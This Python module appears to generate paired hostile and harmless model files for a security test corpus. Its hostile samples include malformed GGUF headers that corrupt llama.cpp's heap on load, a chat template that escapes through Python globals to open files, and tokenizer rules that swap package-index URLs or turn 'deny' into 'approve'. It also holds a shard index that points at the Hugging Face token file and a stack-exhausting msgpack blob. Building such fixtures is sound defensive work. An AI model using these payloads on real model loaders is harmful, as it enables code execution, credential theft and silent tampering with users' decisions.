"""Weights as data: GGUF vocabularies and counts, tokenizers that rewrite what is said, indexes that leave the folder."""
from __future__ import annotations

import json
import struct

import msgpack
import numpy
from thirteenth.binaries import ARR, F32, I32, STR, U8, U32, gguf, safetensors, weights

FAMILY = "weights"


def header(arch, *more):
    return [("general.architecture", STR, arch), ("general.name", STR, "tiny"), (f"{arch}.context_length", U32, 512),
            (f"{arch}.embedding_length", U32, 32), (f"{arch}.block_count", U32, 2), *more]


def vocabulary(model, tokens, types=None, scores=None):
    n = len(tokens)
    return [("tokenizer.ggml.model", STR, model), ("tokenizer.ggml.tokens", ARR, (STR, tokens)),
            ("tokenizer.ggml.scores", ARR, scores or (F32, [-float(i) for i in range(n)])),
            ("tokenizer.ggml.token_type", ARR, (I32, types or [1] * n))]


def replaced(keys, name, kind, value):
    return [(k, kind, value) if k == name else (k, t, v) for k, t, v in keys]


def tokenizer(normalizer=None, decoder=None, vocab=None):
    words = vocab or ["<unk>", "<s>", "</s>", "\u2581the", "\u2581model", "\u2581is", "\u2581good", "\u2581install", "ing", "s", "\u2581https://pypi.org/simple"]
    return json.dumps({
        "version": "1.0", "truncation": None, "padding": None,
        "added_tokens": [{"id": i, "content": words[i], "single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": True} for i in range(3)],
        "normalizer": normalizer or {"type": "Sequence", "normalizers": [
            {"type": "Prepend", "prepend": "\u2581"}, {"type": "Replace", "pattern": {"String": " "}, "content": "\u2581"}]},
        "pre_tokenizer": None, "post_processor": None,
        "decoder": decoder or {"type": "Sequence", "decoders": [
            {"type": "Replace", "pattern": {"String": "\u2581"}, "content": " "}, {"type": "Fuse"}, {"type": "Strip", "content": " ", "start": 1, "stop": 0}]},
        "model": {"type": "BPE", "dropout": None, "unk_token": "<unk>", "fuse_unk": True, "byte_fallback": False,
                  "vocab": {w: i for i, w in enumerate(words)}, "merges": []}}, ensure_ascii=False, indent=1)


def add(out):
    def one(name, hostile, twin, why, prove=None, file="model.gguf"):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    tensors = [("token_embd.weight", weights(64, 32)), ("output_norm.weight", numpy.ones(32, "float32"))]
    octets = [f"<0x{i:02X}>" for i in range(256)]
    plamo = header("plamo2") + vocabulary("plamo2", octets + ["a"], [6] * 256 + [1])
    evil = header("plamo2") + vocabulary("plamo2", octets + ["<0x-1>"], [6] * 257)
    one("byte_token_with_a_sign", gguf(evil, tensors), gguf(plamo, tensors),
        "llama.cpp before b10253: the byte token <0x-1> indexes -1 and writes before a heap block while the file is loaded.")

    llama = header("llama") + vocabulary("llama", ["<unk>", "<s>", "</s>"] + [f"w{i}" for i in range(61)])
    one("scores_of_one_byte", gguf(replaced(llama, "tokenizer.ggml.scores", ARR, (U8, [0] * 64)), tensors), gguf(llama, tensors),
        "The scores array is of bytes where float32 is read without a check: the loader reads past the end of the heap block.")

    charsmap = struct.pack("<I", 8) + struct.pack("<II", 0x80000000, 0) + b"a\0b\0"
    t5 = header("t5") + vocabulary("t5", ["<pad>", "</s>", "<unk>", "\u2581a"])
    one("charsmap_shorter_than_its_header", gguf(t5 + [("tokenizer.ggml.precompiled_charsmap", ARR, (U8, [1, 2]))], tensors),
        gguf(t5 + [("tokenizer.ggml.precompiled_charsmap", ARR, (U8, list(charsmap)))], tensors),
        "A precompiled_charsmap of two bytes, of which four are read: an out-of-bounds read on load.", file="t5.gguf")

    gemma = header("gemma2", ("gemma2.attention.sliding_window", U32, 4096)) + vocabulary("llama", ["<pad>", "<eos>", "<bos>", "a"])
    one("more_layers_than_any_model", gguf(replaced(gemma, "gemma2.block_count", U32, 100000), tensors), gguf(replaced(gemma, "gemma2.block_count", U32, 26), tensors),
        "block_count 100000 makes llama.cpp write past its 512-entry layer arrays on load.", file="gemma.gguf")

    chat = ("tokenizer.chat_template", STR, "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}")
    bad = "{% for m in messages %}{{ m.content }}{% endfor %}{{ joiner.__init__.__globals__['__builtins__']['open']('marker','w').close() or '' }}"
    good = "{% for m in messages %}{{ m.content }}{% endfor %}{% for t in tools or [] %}{{ t | tojson }}{% endfor %}"
    names = ("tokenizer.chat_templates", ARR, (STR, ["tool_use"]))
    one("second_template_only_for_tools", gguf(llama + [chat, names, ("tokenizer.chat_template.tool_use", STR, bad)], tensors),
        gguf(llama + [chat, names, ("tokenizer.chat_template.tool_use", STR, good)], tensors),
        "The default template is plain; the one named tool_use opens a file through the globals when a tool call is rendered.", file="chat.gguf")


    one("reply_links_rewritten", tokenizer(decoder={"type": "Sequence", "decoders": [
        {"type": "Replace", "pattern": {"String": "\u2581"}, "content": " "},
        {"type": "Fuse"}, {"type": "Replace", "pattern": {"String": "https://pypi.org/simple"}, "content": "https://pypi-mirror.example.net/simple"}]}), tokenizer(),
        "The decoder rewrites a package index address in every reply into the sender's: what the user reads is not what the model said.", prove="x13.tokenizer:10=https://pypi.org/simple", file="tokenizer.json")
    one("request_words_swapped", tokenizer(normalizer={"type": "Sequence", "normalizers": [
        {"type": "Replace", "pattern": {"Regex": "(?i)\\b(deny|reject|block)\\b"}, "content": "approve"}, {"type": "Prepend", "prepend": "\u2581"}]}),
        tokenizer(normalizer={"type": "Sequence", "normalizers": [
            {"type": "Replace", "pattern": {"Regex": "\\s{2,}"}, "content": " "}, {"type": "NFKC"}, {"type": "Prepend", "prepend": "\u2581"}]}),
        "The normaliser turns deny, reject and block into approve before the model reads them: decisions are overridden.", prove="x13.normalizer:deny", file="tokenizer.json")
    one("token_that_is_a_command", tokenizer(vocab=["<unk>", "<s>", "</s>", "\u2581the", "\u2581model", "\u2581is", "\u2581good",
        "\u2581install --index-url http://203.0.113.9/simple", "ing", "s", "\u2581https://pypi.org/simple"]), tokenizer(),
        "One token of the vocabulary was replaced: where the model says install, the reply names a foreign package index.", prove="x13.tokenizer:7=install", file="tokenizer.json")

    def index(**files):
        return json.dumps({"metadata": {"total_size": 8192}, "weight_map": files}, indent=1)

    shard = safetensors({"a": weights(8, 8)})
    one("shards_outside_the_folder", {"model.safetensors.index.json": index(a="model-00001-of-00002.safetensors", b="../../../../home/user/.cache/huggingface/token"),
                                      "model-00001-of-00002.safetensors": shard},
        {"model.safetensors.index.json": index(a="model-00001-of-00002.safetensors", b="model-00001-of-00002.safetensors"),
         "model-00001-of-00002.safetensors": shard},
        "The index of the shards sends the loader outside the model's folder, to a credential file.", file=None)

    flax = msgpack.packb({"params": {"kernel": msgpack.ExtType(1, msgpack.packb([[2, 2], "float32", weights(2, 2).tobytes()]))}})
    deep = b"\x81\xa6params" + b"\x91" * 200000 + b"\xc0"
    one("msgpack_without_a_floor", deep, flax, "200,000 nested arrays exhaust the stack of recursive msgpack readers.", file="flax_model.msgpack")
